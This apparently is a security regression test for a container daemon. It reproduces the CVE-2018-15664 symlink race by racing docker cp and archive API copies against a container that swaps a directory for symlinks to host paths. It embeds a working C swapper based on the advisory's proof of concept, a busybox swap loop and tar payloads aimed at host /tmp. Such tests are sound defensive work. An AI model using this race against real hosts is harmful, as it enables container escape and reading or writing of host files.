// Hostile container (issue 16, finding 1; the CVE-2018-15664 class): a process inside the
// container swaps a directory for a symlink pointing out of it, as fast as it can, while the test
// copies into and out of that directory through the API (PUT and GET /containers/{id}/archive)
// and the Docker CLI (`docker cp`). berthd runs as root on the host: a copy that follows the
// symlink in the host's view would write a host file (a canary directory under /tmp) or read one
// out (a canary file with a random secret). Neither may ever happen.
//
// The swapping loops are bounded in time (the container's own script) and the copy loop in count
// and time; the canaries are removed in after(), even when the test failed.
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, writeFileSync, mkdtempSync, readdirSync, lstatSync } from 'node:fs';
import { rm } from 'node:fs/promises';
import { randomBytes } from 'node:crypto';
import { join } from 'node:path';
import { TestDaemon, makeBusybox, ok, runCmd } from '../../helpers/daemon.ts';
import { makeTar } from '../../helpers/faults.ts';

const COPIES = 100;
/** The swapper: renameat2(RENAME_EXCHANGE) of DIR/d and DIR/s in a tight loop, as the advisory's PoC. */
const SWAP_C = `#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>
#include <sys/syscall.h>
int main(int argc, char **argv) {
  char a[4096], b[4096];
  if (argc != 3) return 2;
  snprintf(a, sizeof a, "%s/d", argv[1]);
  snprintf(b, sizeof b, "%s/s", argv[1]);
  time_t end = time(NULL) + atoi(argv[2]);
  while (time(NULL) < end)
    for (int i = 0; i < 1000; i++)
      if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) != 0) { perror("renameat2"); return 1; }
  return 0;
}
`;
const TIME_BUDGET_MS = 8_000;
const SWAP_SECONDS = 60;

describe('hostile container: docker cp raced against a directory swapped for a symlink', () => {
  const d = new TestDaemon();
  const tag = randomBytes(6).toString('hex');
  // Written by a raced copy in: host /tmp/<writeCanary>. Must never exist.
  const writeCanary = `berth-cp-race-w-${tag}`;
  // Read by a raced copy out: a host directory holding a secret. Must never leave the host.
  const readCanary = `/tmp/berth-cp-race-r-${tag}`;
  const secret = `secret-${randomBytes(16).toString('hex')}`;
  const cliDir = mkdtempSync('/tmp/berth-cp-race-cli-');
  const toolDir = mkdtempSync('/tmp/berth-cp-race-tool-');
  const made: string[] = [];
  let swapper = false;
  let passed = 0;

  before(async () => {
    mkdirSync(readCanary);
    writeFileSync(join(readCanary, 'secret.txt'), `${secret}\n`);
    await d.start();
    await makeBusybox(d);
    writeFileSync(join(toolDir, 'swap.c'), SWAP_C);
    const built = await runCmd('gcc', ['-O2', '-static', '-o', join(toolDir, 'swap'), join(toolDir, 'swap.c')]).catch(() => ({ code: -1, stderr: 'no gcc' }));
    if (built.code !== 0) console.error(`cp-race: no static swapper (${built.stderr.trim()}); swapping with busybox mv`);
    swapper = built.code === 0;
  });

  /**
   * Starts an attacker container running two swapping loops under `base`: base/w/d flips between
   * a directory and a symlink to / (for copies in), base/r/d between a directory and a symlink to
   * the host's canary directory (for copies out; no such directory exists in the container). A
   * static swapper when gcc could build one (the exchange is atomic, so the path is always there),
   * else busybox `mv`s (slower, fewer hits).
   */
  async function attacker(name: string, base: string, args: string[]): Promise<string> {
    const swap = (dir: string) => swapper ? `/tool/swap ${dir} ${SWAP_SECONDS}`
      : `end=$(( $(date +%s) + ${SWAP_SECONDS} )); while [ $(date +%s) -lt $end ]; do i=0; while [ $i -lt 100 ]; do mv ${dir}/d ${dir}/x; mv ${dir}/s ${dir}/d; mv ${dir}/d ${dir}/s; mv ${dir}/x ${dir}/d; i=$((i+1)); done; done`;
    const script = [
      `mkdir -p ${base}/w/d ${base}/r/d`, `echo inside >${base}/r/d/inside.txt`, `ln -s / ${base}/w/s`, `ln -s ${readCanary} ${base}/r/s`,
      `(${swap(`${base}/w`)}) &`, `(${swap(`${base}/r`)}) &`, 'wait',
    ].join('\n');
    const cid = (await ok(d.docker(['run', '-d', '--name', name, '-v', `${toolDir}:/tool:ro`, ...args, 'busybox', 'sh', '-c', script]))).trim();
    made.push(cid);
    return cid;
  }

  /** Copies in and out of `target` under `base` while the swaps run; returns what got through. */
  async function race(target: string, base: string, budgetMs: number, cliCopies: number): Promise<{ writes: string[]; leaks: string[]; puts: number; gets: number; sawInside: number }> {
    // In: a single file under tmp/<canary>/ (the target resolved once, then written) and a tree
    // under the swapped directory (its parents checked once, then reused by later entries).
    const single = makeTar([{ name: `tmp/${writeCanary}/pwned`, data: 'x' }]);
    // (No entry for d itself: a copy may legitimately replace the symlink with a directory, which
    // would end the swapping.)
    const tree = makeTar(Array.from({ length: 20 }, (_, i) => ({ name: `d/tmp/${writeCanary}/f${i}`, data: `f${i}` })));
    const deadline = Date.now() + budgetMs;
    let puts = 0;
    let gets = 0;
    let sawInside = 0;
    const leaks: string[] = [];
    const writes: string[] = [];
    const wrote = async (what: string): Promise<void> => {
      if (!existsSync(join('/tmp', writeCanary))) return;
      writes.push(what);
      await rm(join('/tmp', writeCanary), { recursive: true, force: true });
    };
    // A refused copy (the directory was a symlink or gone at that instant) may also end with the
    // connection closed while its body is still being sent: that is a failed copy, not a failure.
    const api = (method: string, path: string, body?: Buffer) => d.api(method, path, body, body ? { 'Content-Type': 'application/x-tar' } : {})
      .catch(() => ({ status: 0, body: Buffer.alloc(0) }));
    for (let n = 0; n < COPIES && Date.now() < deadline; n++) {
      const put = await api('PUT', `/containers/${target}/archive?path=${base}/w/d`, single);
      if (put.status === 200) puts++;
      const put2 = await api('PUT', `/containers/${target}/archive?path=${base}/w`, tree);
      if (put2.status === 200) puts++;
      const get = await api('GET', `/containers/${target}/archive?path=${base}/r/d`);
      if (get.status === 200) {
        gets++;
        if (get.body.includes('inside.txt')) sawInside++;
        if (get.body.includes(secret) || get.body.includes('secret.txt')) leaks.push(`GET #${n}`);
      }
      await wrote(`PUT #${n}`);
    }
    // The Docker CLI's own sequence (HEAD stat, then the copy), a few times each way.
    writeFileSync(join(cliDir, 'pwned'), 'x');
    for (let n = 0; n < cliCopies && Date.now() < deadline + 1000 * cliCopies; n++) {
      await d.docker(['cp', cliDir, `${target}:${base}/w/d/tmp/${writeCanary}`]);
      await wrote(`docker cp #${n}`);
      const out = join(cliDir, `out${n}`);
      const r = await d.docker(['cp', `${target}:${base}/r/d`, out]);
      // (A copy that caught the symlink gives a local symlink to the canary, made by the CLI: not a leak.)
      if (r.code === 0 && existsSync(out) && lstatSync(out).isDirectory() && readdirSync(out).includes('secret.txt')) leaks.push(`docker cp #${n}`);
      await rm(out, { recursive: true, force: true });
    }
    return { writes, leaks, puts, gets, sawInside };
  }

  after(async () => {
    if (passed < 3) console.error(`berthd's log:\n${d.logTail(60)}`);
    for (const c of made) await d.docker(['rm', '-f', c]).catch(() => undefined);
    await d.docker(['volume', 'rm', '-f', `cprace-${tag}`]).catch(() => undefined);
    await d.cleanup();
    await rm(join('/tmp', writeCanary), { recursive: true, force: true });
    await rm(readCanary, { recursive: true, force: true });
    await rm(cliDir, { recursive: true, force: true });
    await rm(toolDir, { recursive: true, force: true });
  });

  it('a container racing copies of its own files: no copy in writes a host file, no copy out reads one', async () => {
    const id = await attacker(`cprace-${tag}`, '', []);
    const r = await race(id, '', TIME_BUDGET_MS, 5);
    // Copies in that wrote the host's /tmp/<canary>, copies out that read the host's secret.
    assert.deepEqual({ writes: r.writes, leaks: r.leaks }, { writes: [], leaks: [] }, `copies raced into the host (of ${r.puts} in, ${r.gets} out)`);
    // The race was run: the copies did go through, and the container was still swapping at the end.
    // (Counts only need to show the race ran: the suite runs other files beside this one, so how
    // many copies fit in the time budget varies.)
    assert.ok(r.puts > 0 && r.gets > 0 && r.sawInside > 0, `copies that went through: ${r.puts} in, ${r.gets} out (${r.sawInside} with the container's file)`);
    const inspect = JSON.parse(await ok(d.docker(['inspect', id]))) as { State: { Running: boolean; Paused: boolean } }[];
    assert.equal(inspect[0]!.State.Running, true, 'the swapping loops ran for the whole test');
    assert.equal(inspect[0]!.State.Paused, false, 'a copy leaves the container unpaused');
    passed++;
  });

  it('a container racing copies into a volume it shares with the copied one (running or stopped)', async () => {
    const vol = `cprace-${tag}`;
    await ok(d.docker(['volume', 'create', vol]));
    const victim = (await ok(d.docker(['create', '--name', `cprace-v-${tag}`, '-v', `${vol}:/v`, 'busybox', 'sleep', '60']))).trim();
    made.push(victim);
    await attacker(`cprace-a-${tag}`, '/v', ['-v', `${vol}:/v`]);
    const stopped = await race(victim, '/v', TIME_BUDGET_MS / 3, 2);
    await ok(d.docker(['start', victim]));
    const running = await race(victim, '/v', TIME_BUDGET_MS / 3, 2);
    assert.deepEqual({ stopped: [...stopped.writes, ...stopped.leaks], running: [...running.writes, ...running.leaks] }, { stopped: [], running: [] },
      'copies raced into the host through the shared volume');
    assert.ok(stopped.puts > 0 && stopped.gets > 0 && running.puts > 0 && running.gets > 0,
      `copies that went through: stopped ${stopped.puts} in, ${stopped.gets} out; running ${running.puts} in, ${running.gets} out`);
    passed++;
  });

  it('a container in the copied one\'s PID namespace racing through /proc/1/root', async () => {
    const victim = (await ok(d.docker(['run', '-d', '--name', `cprace-p-${tag}`, 'busybox', 'sleep', '60']))).trim();
    made.push(victim);
    await attacker(`cprace-pa-${tag}`, '/proc/1/root', ['--pid', `container:${victim}`]);
    const r = await race(victim, '', TIME_BUDGET_MS / 3, 2);
    assert.deepEqual({ writes: r.writes, leaks: r.leaks }, { writes: [], leaks: [] }, 'copies raced into the host through the shared PID namespace');
    assert.ok(r.puts > 0 && r.gets > 0, `copies that went through: ${r.puts} in, ${r.gets} out`);
    passed++;
  });
});
